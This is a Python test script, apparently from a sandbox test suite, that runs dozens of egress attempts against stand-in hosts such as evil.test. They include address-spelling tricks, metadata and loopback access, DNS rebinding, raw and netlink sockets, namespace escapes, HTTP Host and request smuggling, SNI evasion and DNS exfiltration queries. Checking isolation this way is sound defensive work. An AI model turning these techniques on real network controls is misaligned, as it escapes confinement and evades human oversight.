"""What a step might try to get out, each a function that returns what it got: b"REACHED" is success.

Standard library only: `python egress_attacks.py FOLDER` runs all of them, inside a step or outside, and prints
one JSON object, name to outcome. Each would succeed with nothing in its way, on `internet_servers`.
"""

import array
import contextlib
import ctypes
import json
import os
import socket
import ssl
import struct
import sys
import threading
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from functools import partial


def inherited() -> list[str]:
    """What was open when this program began, beyond the standard streams."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            found.append(os.readlink(f"/proc/self/fd/{name}"))
    return [text for text in found[3:] if text.startswith("socket")]


LEFT = inherited()
GOOD, EVIL, EVIL6 = "93.184.216.34", "93.184.216.66", "2606:2800:220:1::66"
FOLDER = sys.argv[1] if len(sys.argv) > 1 else ""
ATTACKS: dict[str, Callable[[], bytes]] = {}


def attack(function: Callable[[], bytes]) -> Callable[[], bytes]:
    ATTACKS[function.__name__] = function
    return function


def take(sock: socket.socket) -> bytes:
    sock.settimeout(0.7)
    data = b""
    with contextlib.suppress(OSError):
        while b"REACHED" not in data and (chunk := sock.recv(4096)):
            data += chunk
    sock.close()
    return data


def talk(host: str, port: int, *chunks: bytes, pause: float = 0) -> bytes:
    sock = socket.create_connection((host, port), timeout=3)
    for chunk in chunks:
        sock.sendall(chunk)
        if pause:
            threading.Event().wait(pause)
    return take(sock)


def connect(family: int, address: tuple, kind: int = socket.SOCK_STREAM, protocol: int = 0) -> bytes:
    sock = socket.socket(family, kind, protocol)
    sock.settimeout(3)
    sock.connect(address)
    return take(sock)


# Addresses, in all their spellings.
for name, host, port in (
    ("evil_address_http", EVIL, 80),
    ("evil_address_https", EVIL, 443),
    ("evil_address_ssh", EVIL, 22),
    ("evil_address_unlisted_port", EVIL, 5000),
    ("evil_ipv6", EVIL6, 80),
    ("evil_mapped", f"::ffff:{EVIL}", 80),
    ("evil_decimal", str(struct.unpack("!I", socket.inet_aton(EVIL))[0]), 80),
    ("evil_octal", ".".join(f"0{int(part):o}" for part in EVIL.split(".")), 80),
    ("evil_hex", "0x" + socket.inet_aton(EVIL).hex(), 80),
    ("evil_short", "93.184.55362", 80),
    ("metadata", "169.254.169.254", 80),
    ("metadata_mapped", "::ffff:169.254.169.254", 80),
    ("metadata_decimal", "2852039166", 80),
    ("private", "10.2.0.7", 5432),
    ("private_mapped", "::ffff:10.2.0.7", 5432),
    ("host_loopback", "127.0.0.1", 7777),
    ("host_loopback_short", "127.1", 7777),
    ("host_loopback_zero", "0.0.0.0", 7777),
    ("host_loopback_zero_word", "0", 7777),
    ("host_loopback_ipv6", "::1", 7777),
    ("host_loopback_mapped", "::ffff:127.0.0.1", 7777),
    ("host_loopback_any_ipv6", "::", 7777),
    ("host_localhost", "localhost", 7777),
):
    ATTACKS[name] = partial(talk, host, port)
# Names.
for name, host, port in (
    ("evil_name", "evil.test", 80),
    ("evil_name_dot", "evil.test.", 80),
    ("evil_name_case", "EVIL.test", 80),
    ("apex_of_wildcard", "example.net", 80),
    ("no_sub_domain", "notexample.net", 80),
    ("allowed_as_prefix", "api.example.net.evil.test", 80),
    ("name_at_loopback", "loop.example.net", 7777),
    ("name_at_metadata", "meta.example.net", 80),
    ("name_at_private", "db.example.net", 5432),
    ("name_at_zero", "zero.example.net", 7777),
):
    ATTACKS[name] = partial(talk, host, port)


@attack
def rebinding() -> bytes:
    """The name is at an allowed address when it is looked at, and at loopback when it is dialled."""
    got = b""
    for _ in range(24):
        with contextlib.suppress(OSError):
            got += talk("rebind.example.net", 7777)
        if b"REACHED" in got:
            break
    return got


# Datagrams and other protocols.
def ask_datagram(
    address: tuple, family: int = socket.AF_INET, query: bytes = b"hi", protocol: int = 0
) -> bytes:
    sock = socket.socket(family, socket.SOCK_DGRAM, protocol)
    sock.settimeout(1.5)
    sock.sendto(query, address)
    return b"REACHED" if sock.recvfrom(4096)[0] else b""


@attack
def datagram() -> bytes:
    return ask_datagram((EVIL, 5000))


@attack
def datagram_ipv6() -> bytes:
    return ask_datagram((EVIL6, 5000), socket.AF_INET6)


@attack
def datagram_connected() -> bytes:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(1.5)
    sock.connect((EVIL, 5000))
    sock.send(b"hi")
    return sock.recv(100)


@attack
def datagram_from_port_53() -> bytes:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(1.5)
    sock.bind(("0.0.0.0", 5353))
    sock.sendto(b"hi", (EVIL, 5000))
    return sock.recv(100)


@attack
def ping_socket() -> bytes:
    with open("/proc/sys/net/ipv4/ping_group_range", "w") as file:  # where it may be opened
        file.write("0 2147483647")
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    sock.settimeout(1.5)
    sock.sendto(b"\x08\0\0\0\0\0\0\0", (EVIL, 0))
    return b"REACHED" if sock.recv(100) else b""


@attack
def raw_icmp() -> bytes:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    sock.settimeout(1.5)
    sock.sendto(b"\x08\0\xf7\xff\0\0\0\0", (EVIL, 0))
    return b"REACHED" if sock.recv(100) else b""


@attack
def packet_socket() -> bytes:
    return b"REACHED" if socket.socket(socket.AF_PACKET, socket.SOCK_RAW).fileno() else b""


@attack
def multipath_tcp() -> bytes:
    return connect(socket.AF_INET, (EVIL, 80), protocol=262)


@attack
def sctp() -> bytes:
    return connect(socket.AF_INET, (EVIL, 80), protocol=132)


@attack
def lightweight_datagram() -> bytes:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    return b"REACHED" if sock.fileno() else b""


@attack
def fast_open() -> bytes:
    sock = socket.socket()
    sock.sendto(b"x", socket.MSG_FASTOPEN, (EVIL, 80))
    return take(sock)


@attack
def ring() -> bytes:
    libc = ctypes.CDLL(None, use_errno=True)
    made = libc.syscall(425, 4, ctypes.create_string_buffer(120))
    return b"REACHED" if made >= 0 else b""


def apart(act: Callable[[ctypes.CDLL], int]) -> bytes:
    """Does what changes a process for good in one of its own."""
    libc = ctypes.CDLL(None, use_errno=True)
    child = os.fork()
    if child == 0:
        os._exit(0 if act(libc) == 0 else 1)
    return b"REACHED" if os.waitpid(child, 0)[1] == 0 else b""


@attack
def other_namespaces() -> bytes:
    return apart(lambda libc: libc.unshare(0x10000000 | 0x40000000))


@attack
def namespace_of_another() -> bytes:
    return apart(lambda libc: libc.setns(os.open("/proc/self/ns/net", os.O_RDONLY), 0x40000000))


@attack
def new_route() -> bytes:
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    route = struct.pack("BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0)
    route += struct.pack("HH4s", 8, 1, socket.inet_aton("192.0.2.77")) + struct.pack("HHI", 8, 4, 1)
    sock.send(struct.pack("IHHII", 16 + len(route), 24, 0x405, 1, 0) + route)
    (code,) = struct.unpack_from("i", sock.recv(4096), 16)
    return b"REACHED" if code == 0 else b""


@attack
def foreign_source() -> bytes:
    sock = socket.socket()
    sock.setsockopt(socket.IPPROTO_IP, 19, 1)  # IP_TRANSPARENT
    sock.bind((EVIL, 0))
    return b"REACHED"


@attack
def own_device() -> bytes:
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, 25, b"lo\0")  # SO_BINDTODEVICE
    sock.settimeout(3)
    sock.connect((EVIL, 80))
    return take(sock)


# Sockets of the host.
@attack
def abstract_socket() -> bytes:
    return connect(socket.AF_UNIX, "\0rundown-internet")  # type: ignore[arg-type]


@attack
def path_socket() -> bytes:
    return connect(socket.AF_UNIX, f"{FOLDER}/host.sock")  # type: ignore[arg-type]


@attack
def passed_descriptor() -> bytes:
    """A socket of the host's network that is handed over another socket of the host."""
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(2)
    sock.connect(f"{FOLDER}/host.sock")
    fds = array.array("i")
    sock.recvmsg(100, socket.CMSG_LEN(fds.itemsize))
    return b"REACHED"


@attack
def left_descriptors() -> bytes:
    """Sockets that were not meant to be inherited."""
    return b"REACHED" if LEFT else b""


# HTTP on a connection to a host that is allowed.
ALLOWED = "api.example.net"
GET = b"GET / HTTP/1.1\r\n"
FINE = GET + b"Host: api.example.net\r\n\r\n"
OTHER = GET + b"Host: evil.test\r\n\r\n"
for name, port, chunks, pause in (
    ("host_mismatch", 80, (OTHER,), 0),
    ("host_mismatch_8080", 8080, (OTHER,), 0),
    ("host_mismatch_with_port", 80, (GET + b"Host: evil.test:80\r\n\r\n",), 0),
    ("host_second_request", 80, (FINE, OTHER), 0.3),
    ("host_pipelined", 80, (FINE + OTHER,), 0),
    ("host_second_on_8080", 8080, (FINE, OTHER), 0.3),
    ("host_absolute_target", 80, (b"GET http://evil.test/ HTTP/1.1\r\nHost: api.example.net\r\n\r\n",), 0),
    ("host_connect", 80, (b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n",), 0),
    ("host_connect_8080", 8080, (b"CONNECT evil.test:80 HTTP/1.1\r\nHost: api.example.net\r\n\r\n",), 0),
    ("host_twice", 80, (GET + b"Host: api.example.net\r\nHost: evil.test\r\n\r\n",), 0),
    ("host_twice_other_way", 80, (GET + b"Host: evil.test\r\nHost: api.example.net\r\nhost: evil.test\r\n\r\n",), 0),
    ("host_with_nul", 80, (GET + b"Host: api.example.net\0.evil.test\r\n\r\n",), 0),
    ("host_with_userinfo", 80, (GET + b"Host: api.example.net@evil.test\r\n\r\n",), 0),
    ("host_with_comma", 80, (GET + b"Host: api.example.net, evil.test\r\n\r\n",), 0),
    ("host_missing", 80, (b"GET / HTTP/1.0\r\n\r\n",), 0),
    ("host_missing_1_1", 80, (b"GET / HTTP/1.1\r\n\r\n",), 0),
    ("host_after_empty_lines", 8080, (b"\r\n\r\n" + OTHER,), 0),
    ("host_folded", 80, (GET + b"Host: api.example.net\r\nX: y\r\n Host: z\r\nHost: evil.test\r\n\r\n",), 0),
    ("host_blank_before_colon", 80, (GET + b"Host : evil.test\r\n\r\n",), 0),
    ("host_bare_line_feeds", 80, (b"GET / HTTP/1.1\nHost: evil.test\n\n",), 0),
    ("host_byte_by_byte", 80, tuple(OTHER[i : i + 1] for i in range(len(OTHER))), 0.001),
    ("host_smuggled_by_length", 80, (
        b"POST / HTTP/1.1\r\nHost: api.example.net\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
        + b"%x\r\n" % len(OTHER) + OTHER + b"\r\n0\r\n\r\n",), 0),
    ("host_smuggled_by_white_space", 80, (
        b"POST / HTTP/1.1\r\nHost: api.example.net\r\nContent-Length: %d\r\nContent-Length : 0\r\n\r\n" % len(OTHER)
        + OTHER,), 0),
    ("host_after_upgrade", 80, (
        GET + b"Host: api.example.net\r\nConnection: upgrade\r\nUpgrade: x\r\n\r\n" + OTHER,), 0),
    ("host_after_upgrade_waiting", 80, (
        GET + b"Host: api.example.net\r\nConnection: upgrade\r\nUpgrade: x\r\n\r\n", OTHER), 0.3),
    ("http2_preface", 80, (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",), 0),
    ("raw_on_80", 80, (b"RAW evil\n",), 0),
    ("raw_on_443", 443, (b"RAW evil\n",), 0),
    ("cleartext_http_on_443", 443, (OTHER,), 0),
):  # fmt: skip
    ATTACKS[name] = partial(talk, ALLOWED, port, *chunks, pause=pause)


# TLS on a connection to a host that is allowed.
def greet(name: str | None, pieces: int = 1) -> bytes:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    sock = socket.create_connection((ALLOWED, 443), timeout=3)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    secured = context.wrap_bio(incoming, outgoing, server_hostname=name)
    first = True
    while True:
        try:
            secured.do_handshake()
            break
        except ssl.SSLWantReadError:
            data = outgoing.read()
            if first and pieces == 0:  # the greeting in two records
                body = data[5:]
                data = b"".join(
                    data[:3] + struct.pack("!H", len(part)) + part for part in (body[:60], body[60:])
                )
            step = max(1, len(data) // max(1, pieces))
            for start in range(0, len(data), step):
                sock.sendall(data[start : start + step])
                if pieces > 1 and first:
                    threading.Event().wait(0.002)
            first = False
            chunk = sock.recv(16384)
            if not chunk:
                return b""
            incoming.write(chunk)
    sock.sendall(outgoing.read())
    with contextlib.suppress(ssl.SSLError):
        incoming.write(sock.recv(16384))
        got = b""
        while True:
            try:
                got += secured.read(4096)
                if b"REACHED" in got:
                    return got
            except ssl.SSLWantReadError:
                chunk = sock.recv(16384)
                if not chunk:
                    return got
                incoming.write(chunk)
    return b""


for name, server, pieces in (
    ("sni_other", "evil.test", 1),
    ("sni_missing", None, 1),
    ("sni_in_two_records", "evil.test", 0),
    ("sni_in_pieces", "evil.test", 40),
):
    ATTACKS[name] = partial(greet, server, pieces)


# Telling somebody by looking names up. `asked.log` says what was heard; the outcome here is of no matter.
def query(name: bytes, kind: int = 1) -> bytes:
    labels = b"".join(bytes((len(label),)) + label for label in name.split(b"."))
    return b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)


def nameserver() -> str:
    with open("/etc/resolv.conf") as file:
        return next(line.split()[1] for line in file if line.startswith("nameserver"))


def tell(packet: bytes, stream: bool = False, server: str = "") -> bytes:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM)
    sock.settimeout(1)
    sock.connect((server or nameserver(), 53))
    sock.send((struct.pack("!H", len(packet)) if stream else b"") + packet)
    return sock.recv(1000)


TELLING: dict[str, Callable[[], object]] = {
    "leak-a.evil.test": lambda: tell(query(b"leak-a.evil.test")),
    "leak-txt.evil.test": lambda: tell(query(b"leak-txt.evil.test", 16)),
    "leak-tcp.evil.test": lambda: tell(query(b"leak-tcp.evil.test"), stream=True),
    "leak-libc.evil.test": lambda: socket.getaddrinfo("leak-libc.evil.test", 80),
    "leak-direct.evil.test": lambda: tell(query(b"leak-direct.evil.test"), server=EVIL),
    "leak-direct-tcp.evil.test": lambda: tell(query(b"leak-direct-tcp.evil.test"), stream=True, server=EVIL),
    "leak-in-wildcard.example.net": lambda: socket.getaddrinfo("leak-in-wildcard.example.net", 80),
    "leak-any.api.example.net": lambda: tell(query(b"leak-any.api.example.net", 255)),
    "leak\0nul.evil.test": lambda: tell(query(b"leak\0nul.evil.test")),
}


def outcome(function: Callable[[], bytes]) -> str:
    try:
        return "REACHED" if b"REACHED" in function() else "nothing"
    except Exception as error:
        return f"{type(error).__name__}: {error}"


def main() -> None:
    with ThreadPoolExecutor(8) as several:
        outcomes = dict(zip(ATTACKS, several.map(outcome, ATTACKS.values()), strict=True))
    for function in TELLING.values():
        with contextlib.suppress(Exception):
            function()
    print(json.dumps(outcomes))


if __name__ == "__main__":
    main()
